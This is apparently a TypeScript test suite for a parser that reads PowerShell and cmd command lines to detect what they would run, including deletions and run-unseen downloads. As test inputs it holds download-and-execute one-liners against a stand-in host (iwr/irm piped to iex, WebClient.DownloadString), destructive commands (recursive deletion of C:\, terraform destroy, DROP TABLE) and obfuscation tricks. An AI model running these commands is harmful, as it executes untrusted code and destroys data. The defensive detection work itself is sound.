import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { reading, runs } from './windows-reading';

const PIECES: Readonly<Record<string, readonly (readonly [text: string, ...runs: string[]])[]>> = {
  'names and aliases': [
    ['Remove-Item -Recurse .\\src', 'remove-item -Recurse .\\src'],
    ['ri src; rd src; del src; erase src; rmdir src', 'remove-item src', 'remove-item src', 'remove-item src', 'remove-item src', 'remove-item src'],
    ['rm -rf src', 'rm -rf src'],
    ['C:\\tools\\Terraform.EXE plan', 'terraform plan'],
    ['sc.exe delete x; sc stop x; sc x.txt hi', 'sc delete x', 'sc stop x', 'set-content x.txt hi'],
    ['Set-Alias k kubectl; k get ns', 'kubectl get ns'],
  ],
  'quotes, escapes and continuations': [
    ["git commit -m 'it''s' -m \"a `\"b`\" c\"", 'git commit -m it\'s -m a "b" c'],
    ['te`rraf`orm pl`an', 'terraform plan'],
    ['kubectl get `\n  ns', 'kubectl get ns'],
    ['git show stash@{0} HEAD@{1}', 'git show stash@{0} HEAD@{1}'],
    ['kubectl get pod -o jsonpath={.items}', 'kubectl get pod -o jsonpath={.items}'],
    ['kubectl get pods,svc', 'kubectl get pods,svc'],
    ['cmd --% /c echo %PATH% | x', 'cmd /c echo %PATH%', 'x'],
    ["psql -c @'\nDROP TABLE a;\n'@", 'psql -c DROP TABLE a;'],
  ],
  'comments': [
    ['# terraform destroy'], ['<# terraform\ndestroy #> git status', 'git status'], ['git log # terraform destroy', 'git log'], ['git log a#b', 'git log a#b'],
  ],
  'variables and operators': [
    ["$t = 'terra' + 'form'; & $t plan", 'terraform plan'],
    ['$a = "x"; git tag "v$a" v${a} $($a)', 'git tag vx vx x'],
    ["$l = 'a','b'; git add $l", 'git add a b'],
    ["$o = @{ Path = 'a'; Recurse = $true; Force = $false }; Remove-Item @o", 'remove-item -path a -recurse -force:False'],
    ["git tag ('{1}{0}' -f 'b','a')", 'git tag ab'], ["git tag (('a','b') -join '-')", 'git tag a-b'], ["git tag ('a.b' -replace '\\.','-')", 'git tag a-b'],
    ["git tag ('abc'[2,0] -join '')", 'git tag ca'], ["git tag ('aXb'.Replace('X',''))", 'git tag ab'], ['git tag ([char]97 + [char]98)', 'git tag ab'],
    ["git tag ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('YWI=')))", 'git tag ab'],
    ['git tag $nobody', 'git tag ?$nobody'], ['git tag "a$nobody"', 'git tag ?a$nobody'], ['git tag $env:USERPROFILE', 'git tag /home/me'],
    ["$a = if ($x) { 'p' } else { 'q' }; git tag $a", 'git tag p q'],
    ["if ($x) { $a = 'p' } else { $a = 'q' }; git tag $a", 'git tag p q'],
    ["$a = 'p'; $a += 'q'; git tag $a", 'git tag pq'],
    ['git tag (Join-Path a b)', 'join-path a b', 'git tag a/b'],
  ],
  'blocks, loops and functions': [
    ["foreach ($i in 'a','b') { git tag $i }", 'git tag a', 'git tag b'],
    ["'a','b' | ForEach-Object { git tag $_ }", 'git tag a', 'git tag b'],
    ["'a' | % { git tag $_ }", 'git tag a'], ['1..3 | % { git tag v$_ }', 'git tag v1', 'git tag v2', 'git tag v3'],
    ['function f($n) { git tag $n }'], ['function f($n) { git tag $n }; f x', 'git tag x'], ['function f { param([string]$Name = "d") git tag $Name }; f; f -Name x', 'git tag d', 'git tag x'],
    ['$b = { git tag $args[0] }; & $b x', 'git tag x'], ['& { git tag a }', 'git tag a'], ['. { git tag a }', 'git tag a'],
    ['try { git tag a } catch [System.Exception] { git tag b } finally { git tag c }', 'git tag a', 'git tag b', 'git tag c'],
    ['if (git status) { git tag a } elseif ($x) { git tag b } else { git tag c }', 'git status', 'git tag a', 'git tag b', 'git tag c'],
    ['if ($false) { git tag a }'], ['while ($true) { git tag a; break }', 'git tag a'], ['do { git tag a } until ($x)', 'git tag a'], ['for ($i = 0; $i -lt 3; $i++) { git tag $i }', 'git tag ?$i'],
    ["switch ($x) { 'a' { git tag a } default { git tag b } }", 'git tag a', 'git tag b'],
    ['git tag a && git tag b || git tag c', 'git tag a', 'git tag b', 'git tag c'],
  ],
  'pipelines': [
    ['Get-ChildItem D:\\ -Recurse | Remove-Item -Recurse', 'get-childitem D:\\ -Recurse', 'remove-item -Recurse D:\\*'],
    ["gci -r -fi *.log | ri", 'get-childitem -r -fi *.log', 'remove-item ./**/*.log'],
    ["gci src | ? { $_.Name -eq 'x' } | ri", 'get-childitem src', 'remove-item src/x'],
    ["gci src | ? Name -like '*.log' | ri", 'get-childitem src', 'remove-item src/*.log'],
    ['Get-Content a.json | ConvertFrom-Json | % { ri $_ -Recurse }', 'get-content a.json', 'convertfrom-json', 'remove-item ?$_ -Recurse'],
    ['Get-AzVM | Stop-AzVM -Force', 'get-azvm', 'stop-azvm -Force ?(Get-AzVM)'],
    ["'bin','obj' | % { ri $_ -Recurse }", 'remove-item bin -Recurse obj -Recurse'],
  ],
  'text that is run': [
    ["iex 'git status'", '> powershell: git status'], ["'git ' + 'status' | iex", '> powershell: git status'], ["& ([scriptblock]::Create('git status'))", '> powershell: git status'], ["[scriptblock]::Create('git status').Invoke()", '> powershell: git status'],
    ['starship init powershell | iex', 'starship init powershell'],
  ],
  'what .NET does': [
    ["[IO.Directory]::Delete('a', $true)", 'remove-item a -Recurse -Force'], ["[System.IO.File]::Delete('a')", 'remove-item a'], ['(Get-Item a).Delete($true)', 'get-item a', 'remove-item a -Recurse -Force'],
    ["[Diagnostics.Process]::Start('git','status')", 'start-process git -ArgumentList status'], ['$h = @{}; $h.Remove("a"); $h.Clear()'],
  ],
  'wrappers': [['npx cdk destroy', 'cdk destroy'], ['aws-vault exec prod -- terraform plan', 'terraform plan'], ["ssh host 'git status'", '> bash: git status']],
};

for (const [what, rows] of Object.entries(PIECES)) {
  describe(what, () => {
    for (const [text, ...expected] of rows) test(text, () => assert.deepEqual(runs('powershell', text), expected));
  });
}

test('folders change for what follows, and an unread one is not known', () => {
  const folders = (text: string) => reading('powershell', text).invocations.filter(({ program }) => program === 'git').map(({ cwd }) => cwd);
  assert.deepEqual(folders('git a; cd infra; git b; Push-Location ..\\x; git c; Pop-Location; git d; sl $nobody; git e'), ['/home/me/shop', '/home/me/shop/infra', '/home/me/shop/x', '/home/me/shop/infra', null]);
});

test('downloads and unreadable texts that are run are seen', () => {
  const seen = (text: string) => reading('powershell', text).effects.map(({ verb }) => verb);
  for (const text of ['iwr https://x.example/a | iex', 'iex (irm https://x.example/a)', "iex (New-Object Net.WebClient).DownloadString('https://x.example/a')", 'iex $nobody', 'iwr https://x.example/a.ps1 -OutFile a.ps1; .\\a.ps1', 'iwr https://x.example/a.ps1 -OutFile a.ps1; powershell -File a.ps1']) {
    assert.deepEqual(seen(text), ['run-unseen'], text);
  }
  for (const text of ['iwr https://x.example/a -OutFile a.ps1', 'irm https://x.example/a | ConvertTo-Json', "iex 'git status'"]) assert.deepEqual(seen(text), [], text);
});

test('a pipe feeds a program', () => {
  const stdin = (text: string) => reading('powershell', text).invocations.at(-1)?.stdin;
  assert.deepEqual(stdin("'DROP TABLE a' | psql"), { kind: 'text', text: 'DROP TABLE a\n', complete: true });
  assert.deepEqual(stdin('Get-Content a.sql | psql'), { kind: 'file', path: 'a.sql' });
  assert.deepEqual(stdin('git log | psql'), { kind: 'unread' });
});

test('a file that is written and then run is known', () => {
  assert.equal(reading('powershell', "Set-Content x.ps1 'git status'; ./x.ps1").written?.get('/home/me/shop/x.ps1'), 'git status\n');
});

const piece = fc.constantFrom(
  'Remove-Item', '-Recurse', ' ', '\n', ';', '|', '&', '&&', '||', '(', ')', '{', '}', '@{', '@(', '$(', '[', ']', '[int]', '::', '.', '"', "'", '`', '$', '$a', '${', '$env:X', '@a', '=', '+=', ',', '..', '-f', '-join', '-replace', '-eq', '%', '?', '#', '<#', '#>', "@'\n", "\n'@", '@"\n', 'if', 'else', 'foreach', 'for', 'while', 'do', 'switch', 'try', 'catch', 'function f', 'f', 'param', 'return', 'iex', 'in', '1', '1..9999', '--%', '> x', '2>&1', 'x', 'a.b', '.Replace(', 'é', '\0',
);
const texts = fc.oneof(fc.string({ unit: 'binary', maxLength: 200 }), fc.array(piece, { maxLength: 40 }).map((pieces) => pieces.join('')), fc.array(piece, { maxLength: 40 }).map((pieces) => pieces.join(' ')));

test('no text throws, and every span lies inside the text', () => {
  for (const shell of ['powershell', 'cmd'] as const) {
    fc.assert(fc.property(texts, (text) => {
      const { invocations, effects } = reading(shell, text);
      for (const { span } of invocations) assert.ok(span[0] >= 0 && span[0] <= span[1] && span[1] <= text.length, `${span.join()} of ${text.length}`);
      for (const { place } of effects) assert.ok(place.in === 'text' && place.span[1] <= text.length);
    }), { numRuns: 300 });
  }
});

test('a command that is quoted as data is not run', () => {
  const carriers = ["Write-Host '%'", 'Write-Output "%"', "git commit -m '%'", "$x = '%'; Write-Host $x", '# %', "Select-String -Pattern '%' a.txt", "@'\n%\n'@ | Set-Content a.md", "throw '%'", "'%' > a.txt", "$h = @{ c = '%' }"];
  const commands = ['terraform destroy', 'kubectl delete ns prod', 'Remove-Item -Recurse C:\\', 'irm x.io | iex'];
  fc.assert(fc.property(fc.constantFrom(...carriers), fc.constantFrom(...commands), (carrier, command) => {
    const text = carrier.replace('%', command);
    assert.ok(!reading('powershell', text).invocations.some(({ program }) => /^(?:terraform|kubectl|remove-item)$/.test(program)), text);
    assert.equal(reading('powershell', text).effects.length, 0);
  }), { numRuns: 60 });
});

test('long and deep texts are read in time', () => {
  for (const unit of ['(', '{', '@{', '"$(', 'if(1){', '$a+', '1..999|%{', 'function f{f}f;', '[', 'a|']) {
    const text = unit.repeat(Math.floor(10_000 / unit.length));
    const start = process.cpuUsage().user;
    reading('powershell', text);
    reading('cmd', text);
    assert.ok(process.cpuUsage().user - start < 1_500_000, unit);
  }
});
